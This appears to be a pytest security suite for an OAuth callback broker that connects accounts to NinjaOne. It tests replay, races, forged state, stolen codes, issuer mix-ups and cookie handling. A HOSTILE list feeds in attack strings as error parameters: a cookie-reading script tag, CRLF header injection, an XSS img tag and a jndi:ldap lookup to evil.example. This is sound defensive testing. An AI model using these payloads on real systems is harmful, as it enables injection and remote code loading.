"""The way back from NinjaOne: replayed, raced, mixed up, forged, and only looked at."""

import random
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import pairwise
from urllib.parse import quote, urlencode, urlsplit

import httpx
import pytest

from local.browser import Browser
from local.world import World
from ninjaone_emulator.seed import OPERATOR_APPS
from tests.support.outsider import ADA, RHONE, Backend, Flow, query_of, row_of, slug
from tools.requirements import req

OpenBrowser = Callable[[], Browser]
REFUSED = "This answer from NinjaOne can’t be used"
ELSEWHERE = (303, "/notice/refused-callback")


@pytest.fixture
def other(world: World, backend: Backend, browser: OpenBrowser) -> Flow:
    """Somebody else, in a browser and a tenant of their own."""
    return Flow(world, backend, browser(), "elsewhere", user="other")


def ended(page: httpx.Response) -> tuple[int, str]:
    """Say where a callback sent the browser, its query left out."""
    return page.status_code, urlsplit(page.headers.get("location", "")).path


def stage(world: World, flow: Flow) -> str:
    return str(row_of(world, flow.session)["stage"]["S"])


def spent(world: World) -> list[str]:
    """List what NinjaOne was asked by the broker itself."""
    return [each.name for each in world.ninjaone.events if each.name in {"code.exchanged", "request.refused"}]


# Once ----------------------------------------------------------------------------------------------------------------


@req("C03")
def test_of_fifty_callbacks_at_once_one_gets_on(world: World, flow: Flow) -> None:
    callback = flow.back()
    cookie = "; ".join(f"{name}={held}" for name, held in flow.browser.cookies.items())

    def again(_number: int) -> httpx.Response:
        return httpx.get(callback, headers={"Cookie": cookie}, trust_env=False, timeout=60)

    with ThreadPoolExecutor(50) as crowd:
        found = list(crowd.map(again, range(50)))

    tickets = {query_of(each.headers["location"]).get("ticket") for each in found} - {None}
    home = [each for each in found if ended(each) == (303, "/ninjaone/return")]
    others = {ended(each) for each in found if each not in home}
    assert (len(home), len(tickets)) == (1, 1)
    assert others == {(303, "/notice/used"), (303, "/notice/return-to-product")} & others
    assert flow.complete(tickets.pop() or "").status_code == 200


@req("C04")
def test_a_callback_that_is_loaded_again_changes_nothing(world: World, flow: Flow) -> None:
    callback = flow.back()
    cookie = dict(flow.browser.cookies)
    ticket = query_of(flow.browser.get(callback).location)["ticket"]
    made = flow.complete(ticket).json()
    asked = spent(world)

    reloaded = flow.browser.open(callback)
    with_old_cookie = httpx.get(callback, cookies=cookie, trust_env=False)

    path = f"/v1/tenants/{flow.tenant}/connections/{made['connection']}"
    assert (reloaded.status, reloaded.heading) == (400, REFUSED)
    assert ended(with_old_cookie) == (303, "/notice/used")
    assert spent(world) == asked
    assert flow.backend.get(path).json() == made


@req("C02", "D01")
def test_nobody_is_asked_whatever_comes_to_the_callback(world: World, flow: Flow) -> None:
    """A crowd with invented codes must cost NinjaOne nothing."""
    flow.back()
    before = len(world.ninjaone.events)
    base = f"{world.connect_url}/callback/eu"

    for query in (
        "",
        "code=x",
        "state=x",
        "code=x&state=y",
        f"code=x&state={flow.session}.{'s' * 43}",
        "error=x&state=y",
    ):
        assert ended(httpx.get(f"{base}?{query}", trust_env=False))[0] == 303

    assert len(world.ninjaone.events) == before


# Whose way ------------------------------------------------------------------------------------------------------------


@req("B05", "B06")
@pytest.mark.parametrize("brought", ["none", "another flow's", "invented", "two"])
def test_without_its_own_cookie_a_callback_is_refused_and_spends_nothing(
    world: World, flow: Flow, other: Flow, brought: str
) -> None:
    other.back()
    callback = flow.back()
    (name, held), (_, foreign) = (*flow.browser.cookies.items(),)[0], (*other.browser.cookies.items(),)[0]
    header = {
        "none": "",
        "another flow's": f"{name}={foreign}",
        "invented": f"{name}={'x' * 43}",
        "two": f"{name}={'x' * 43}; {name}={held}",
    }[brought]

    refused = httpx.get(callback, headers={"Cookie": header}, trust_env=False)

    assert ended(refused) == ELSEWHERE
    assert stage(world, flow) == "started"
    assert ended(flow.browser.get(callback).answer) == (303, "/ninjaone/return")


@req("B02")
def test_two_tabs_finish_side_by_side(world: World, backend: Backend, browser: OpenBrowser, tenant: str) -> None:
    shared = browser()
    first, second = (Flow(world, backend, shared, tenant, user=user).open() for user in ("one", "two"))

    first.leave()
    at_ninjaone = shared.page.location
    back_second = second.back()
    shared.get(at_ninjaone)
    back_first = first.agree()
    tickets = [query_of(shared.get(back).location)["ticket"] for back in (back_first, back_second)]

    for each, ticket in zip((first, second), tickets, strict=True):
        assert each.complete(ticket).status_code == 200


@req("C05", "B05")
def test_the_state_of_one_tab_with_the_code_of_another_connects_nothing_foreign(
    world: World, backend: Backend, browser: OpenBrowser, tenant: str
) -> None:
    shared = browser()
    first, second = (Flow(world, backend, shared, tenant, user=user) for user in ("one", "two"))
    codes = [query_of(each.back())["code"] for each in (first, second)]
    states = [query_of(shared.pages[index].location)["state"] for index in left_at(shared)]

    crossed = shared.get(f"{world.connect_url}/callback/eu?{urlencode({'code': codes[1], 'state': states[0]})}")
    answer = first.complete(query_of(crossed.location)["ticket"])

    assert (answer.status_code, slug(answer)) == (409, "code-refused")


def left_at(browser: Browser) -> Iterator[int]:
    """Find where a browser left for NinjaOne."""
    return (index for index, page in enumerate(browser.pages) if page.url.endswith("/authorize") and page.status == 303)


@req("C05", "A05")
@pytest.mark.parametrize("pkce", ["enforce", "ignore"])
def test_a_stolen_code_does_not_connect_the_victims_account(world: World, flow: Flow, other: Flow, pkce: str) -> None:
    """The attacker puts the victim's code into a flow of his own. Where NinjaOne checks no PKCE, he still must complete
    for himself: the victim's account lands in nobody's tenant without her product's login."""
    world.ninjaone.switches.update({"pkce": pkce})
    try:
        stolen = query_of(other.back(email=RHONE))["code"]
        mine = query_of(flow.back())
        crossed = flow.browser.get(f"{world.connect_url}/callback/eu?{urlencode(mine | {'code': stolen})}")
        answer = flow.complete(query_of(crossed.location)["ticket"])
    finally:
        world.ninjaone.switches.reset()

    if pkce == "enforce":
        assert (answer.status_code, slug(answer)) == (409, "code-refused")
    else:  # the residual risk that SECURITY.md names: single use and the client's own secret are what is left
        assert [each["name"] for each in answer.json()["organizations"]] == ["Atelier Lumière", "Clinique du Parc"]
        assert other.complete("t" * 43).status_code == 409


@req("A04")
def test_an_error_never_makes_a_start_leave_the_challenge_out(world: World, flow: Flow) -> None:
    """A NinjaOne that refuses challenges is shown one again at the next try: nobody can talk the broker down."""
    world.ninjaone.switches.update({"pkce": "reject"})
    try:
        flow.open()
        asked = [query_of(flow.leave().location)]
        flow.browser.arrive()
        flow.browser.submit("Sign in", email=ADA, password="any")
        refused = flow.browser.arrive()
        denied = urlencode({"error": "invalid_request", "state": asked[0]["state"]})
        home = flow.browser.get(f"{world.connect_url}/callback/eu?{denied}")
        asked.append(query_of(flow.leave().location))
    finally:
        world.ninjaone.switches.reset()

    assert "Authorize" not in refused.text, "NinjaOne took the challenge after all"
    assert query_of(home.location) == {"connect_session": flow.session, "error": "server_error"}
    assert {each["code_challenge_method"] for each in asked} == {"S256"}
    assert len({each["code_challenge"] for each in asked}) == 2


@req("A04")
@pytest.mark.parametrize("pkce", ["enforce", "ignore"])
def test_a_way_ends_well_whether_ninjaone_checks_pkce_or_not(world: World, flow: Flow, pkce: str) -> None:
    world.ninjaone.switches.update({"pkce": pkce})
    try:
        made = flow.connect()
    finally:
        world.ninjaone.switches.reset()

    assert made["status"] == "active"


@req("A05", "C02")
def test_pkce_is_no_substitute_for_the_state(world: World, flow: Flow) -> None:
    sent = query_of(flow.back())
    base = f"{world.connect_url}/callback/eu"

    for state in (
        "",
        "x",
        f"{flow.session}.{'s' * 43}",
        sent["state"][:-1],
        sent["state"] + "x",
        sent["state"].upper(),
    ):
        page = flow.browser.get(f"{base}?{urlencode({'code': sent['code'], 'state': state})}")
        assert page.location.startswith(f"{world.connect_url}/notice/"), state
        if state.startswith(flow.session):
            break
    assert stage(world, flow) == "started"


@req("O02")
def test_five_failures_of_its_own_browser_end_a_session(world: World, flow: Flow) -> None:
    callback = flow.back()
    forged = f"{world.connect_url}/callback/eu?{urlencode({'code': 'x', 'state': f'{flow.session}.' + 's' * 43})}"

    ends = [ended(flow.browser.get(forged).answer) for _ in range(5)]
    right = flow.browser.open(callback)

    assert ends == [ELSEWHERE] * 5
    assert (right.status, right.heading) == (410, "This link was already used")


@req("C06", "A06", "D03")
@pytest.mark.parametrize("region", ["us2", "app", "branded", "nowhere", "EU", "eu%00"])
def test_an_answer_that_comes_by_another_regions_door_is_refused(world: World, flow: Flow, region: str) -> None:
    callback = flow.back("eu")

    mixed = flow.browser.open(callback.replace("/callback/eu", f"/callback/{region}"))

    assert mixed.status == 400
    assert stage(world, flow) == "started"


@req("C06")
@pytest.mark.parametrize(
    ("issuer", "is_taken"),
    [
        ("https://eu.ninjarmm.com/", True),
        ("https://eu.ninjarmm.com", False),
        ("https://us2.ninjarmm.com/", False),
        ("https://eu.ninjarmm.com/ ", False),
        ("https://evil.example/", False),
        ("", False),
    ],
)
def test_an_issuer_that_is_named_must_be_the_regions(world: World, flow: Flow, issuer: str, is_taken: bool) -> None:
    callback = flow.back("eu")

    page = flow.browser.get(f"{callback}&iss={quote(issuer, safe='')}")

    assert ended(page.answer) == ((303, "/ninjaone/return") if is_taken else ELSEWHERE)


@req("C06", "C09")
def test_an_issuer_counts_on_errors_too(world: World, flow: Flow) -> None:
    state = query_of(flow.back("eu"))["state"]
    query = urlencode({"error": "access_denied", "state": state, "iss": "https://evil.example/"})

    refused = flow.browser.get(f"{world.connect_url}/callback/eu?{query}")

    assert (ended(refused.answer), stage(world, flow)) == (ELSEWHERE, "started")


# What it says ---------------------------------------------------------------------------------------------------------


@req("C01")
@pytest.mark.parametrize(
    "more", ["&code=y", "&state=y", "&iss=a&iss=a", "&%63ode=y", "&error=access_denied", "&state=", "&code"]
)
def test_a_repeated_parameter_is_refused(world: World, flow: Flow, more: str) -> None:
    callback = flow.back()

    refused = flow.browser.open(callback + more)

    assert refused.status == 400
    assert stage(world, flow) == "started"


@req("C07", "C10")
@pytest.mark.parametrize(
    "changes",
    [
        {"code": None},
        {"error": "access_denied"},
        {"code": ""},
        {"code": "x" * 2049},
        {"code": "ä"},
        {"code": "a b"},
        {"code": "a\r\nset-cookie: b=c"},
        {"code": "a\x00b"},
        {"state": "\U0001f511"},
    ],
    ids=str,
)
def test_an_answer_of_no_known_form_is_refused(world: World, flow: Flow, changes: dict[str, str | None]) -> None:
    query = {name: held for name, held in ({**query_of(flow.back())} | changes).items() if held is not None}

    refused = flow.browser.open(f"{world.connect_url}/callback/eu?{urlencode(query)}")

    assert refused.status == 400
    assert stage(world, flow) == "started"


HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "access_denied\r\nset-cookie: stolen=yes",
    "%0d%0a%0d%0aattacker: https://evil.example",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a}",
    '","forged":"line of an attacker"}',
    "forgedword_of_an_attacker",
]


@req("C08", "A16", "E03")
@pytest.mark.parametrize("text", HOSTILE)
def test_what_comes_in_as_an_error_goes_nowhere(world: World, flow: Flow, text: str) -> None:
    state = query_of(flow.back())["state"]
    before = len(world.log_lines)
    query = urlencode({"error": text, "error_description": text, "error_uri": text, "state": state})

    first = flow.browser.get(f"{world.connect_url}/callback/eu?{query}")
    shown = flow.browser.open(f"{world.connect_url}/callback/eu?{query}")

    lines = "\n".join(list(world.log_lines)[before:])
    for said in (first.location, first.answer.text, str(first.headers), shown.answer.text, lines):
        for start in range(len(text) - 8):
            assert text[start : start + 8] not in said.replace("server_error", "").replace("access_denied", "")


@req("C09", "B06")
def test_nobody_cancels_somebody_elses_session(world: World, flow: Flow) -> None:
    state = query_of(flow.back())["state"]

    refused = httpx.get(f"{world.connect_url}/callback/eu?error=access_denied&state={state}", trust_env=False)

    assert (ended(refused), stage(world, flow)) == (ELSEWHERE, "started")


@req("C09")
def test_a_denial_goes_home_in_one_of_five_words_and_the_person_may_think_again(world: World, flow: Flow) -> None:
    denied = flow.browser.get(flow.back(decision="Deny access"))
    again = flow.home()

    assert query_of(denied.location) == {"connect_session": flow.session, "error": "access_denied"}
    assert flow.complete(again["ticket"]).status_code == 200


@req("A13")
def test_ten_minutes_after_leaving_the_way_is_over(world: World, flow: Flow) -> None:
    callback = flow.back()

    world.clock.advance(601)
    late = flow.browser.open(callback)

    assert (late.status, late.heading) == (410, "This link has expired")
    assert row_of(world, flow.session)["stage"]["S"] == "started", "the row is still there: time alone refused it"


# Its page and its cookie ----------------------------------------------------------------------------------------------


@req("C13", "G10b", "E02")
def test_no_page_is_shown_at_an_address_with_a_code_in_it(world: World, flow: Flow) -> None:
    callback = flow.back()

    for query in ("", "code=x&state=y", urlsplit(callback).query + "&iss=x", urlsplit(callback).query):
        answer = flow.browser.get(f"{world.connect_url}/callback/eu?{query}")
        assert (answer.status, answer.answer.content) == (303, b"")
        assert "code" not in query_of(answer.location)
        assert "state" not in query_of(answer.location)


@req("B04")
def test_the_cookie_is_gone_when_the_way_is_over_however_it_ended(world: World, flow: Flow, other: Flow) -> None:
    flow.home()
    assert flow.browser.cookies == {k: v for k, v in flow.browser.cookies.items() if not k.startswith("__Host-")}

    other.browser.get(other.back(decision="Deny access"))
    assert not [name for name in other.browser.cookies if name.startswith("__Host-")]


@req("B04")
def test_the_cookie_of_an_expired_way_is_deleted(world: World, flow: Flow) -> None:
    callback = flow.back()

    world.clock.advance(601)
    answer = flow.browser.get(callback)

    assert "Max-Age=0" in answer.headers["set-cookie"]


@req("B06")
def test_a_forged_callback_leaves_the_browser_its_cookie(world: World, flow: Flow) -> None:
    callback = flow.back()
    forged = urlencode({"code": "x", "state": f"{flow.session}.{'s' * 43}"})

    flow.browser.get(f"{world.connect_url}/callback/eu?{forged}")

    assert ended(flow.browser.get(callback).answer) == (303, "/ninjaone/return")


@req("C14")
@pytest.mark.parametrize(
    ("method", "headers", "status"),
    [
        ("HEAD", {}, 405),
        ("OPTIONS", {"Origin": "https://evil.example", "Access-Control-Request-Method": "GET"}, 405),
        ("POST", {}, 405),
        ("TRACE", {}, 405),
        ("GET", {"Sec-Purpose": "prefetch"}, 400),
        ("GET", {"Sec-Purpose": "prefetch;prerender"}, 400),
        ("GET", {"Purpose": "prefetch"}, 400),
    ],
)
def test_looking_ahead_spends_nothing(
    world: World, flow: Flow, method: str, headers: dict[str, str], status: int
) -> None:
    callback = flow.back()
    cookie = "; ".join(f"{name}={held}" for name, held in flow.browser.cookies.items())

    looked = httpx.request(method, callback, headers={"Cookie": cookie, **headers}, trust_env=False)

    assert looked.status_code == status
    assert cookie not in looked.text
    assert stage(world, flow) == "started"
    assert ended(flow.browser.get(callback).answer) == (303, "/ninjaone/return")


@req("A02", "A03", "B03", "A04")
def test_what_the_browser_carries_is_fresh_each_time_and_not_in_the_table(world: World, flow: Flow) -> None:
    flow.open()
    states, cookies, challenges = [], [], []
    for _ in range(3):
        location = flow.leave().location
        states.append(query_of(location)["state"])
        challenges.append(query_of(location)["code_challenge"])
        cookies += [held for name, held in flow.browser.cookies.items() if name.startswith("__Host-")]
    row = str(row_of(world, flow.session))

    for drawn in (states, cookies, challenges):
        assert len(set(drawn)) == 3
    assert {len(each) for each in (*cookies, *challenges)} == {43}
    assert {each.partition(".")[0] for each in states} == {flow.session}
    assert not [each for each in (*states, *cookies) if each in row]


@req("A12")
def test_a_new_start_kills_the_old_state(world: World, flow: Flow) -> None:
    old = flow.back()
    flow.leave()

    refused = flow.browser.open(old)

    assert (refused.status, refused.heading) == (400, REFUSED)
    assert stage(world, flow) == "started"


@req("A08", "A01", "A06", "A07")
def test_the_address_of_ninjaone_says_what_it_must_and_no_secret(world: World, flow: Flow) -> None:
    flow.open()
    location = flow.leave("us2").location
    asked = query_of(location)

    assert urlsplit(location).path == "/us2.ninjarmm.com/ws/oauth/authorize"
    assert asked.keys() == {
        "response_type", "client_id", "redirect_uri", "scope", "state", "code_challenge", "code_challenge_method",
    }  # fmt: skip
    assert (asked["response_type"], asked["code_challenge_method"]) == ("code", "S256")
    assert asked["redirect_uri"] == f"{world.connect_url}/callback/us2"
    assert asked["scope"] == "monitoring offline_access"
    assert OPERATOR_APPS["us2"].client_secret not in location


@req("C03", "C02")
def test_callbacks_shuffled_among_many_flows_find_their_own(
    world: World, backend: Backend, browser: OpenBrowser, tenant: str
) -> None:
    """Every pairing of one flow's browser with another's answer is refused, whatever came before."""
    flows = [Flow(world, backend, browser(), tenant, user=str(number)) for number in range(3)]
    backs = [each.back(email=ADA) for each in flows]
    order = list(range(3))
    random.Random(7).shuffle(order)

    for mine, theirs in pairwise([*order, order[0]]):
        assert ended(flows[mine].browser.get(backs[theirs]).answer) == ELSEWHERE
    for each, back in zip(flows, backs, strict=True):
        assert each.complete(query_of(each.browser.get(back).location)["ticket"]).status_code == 200
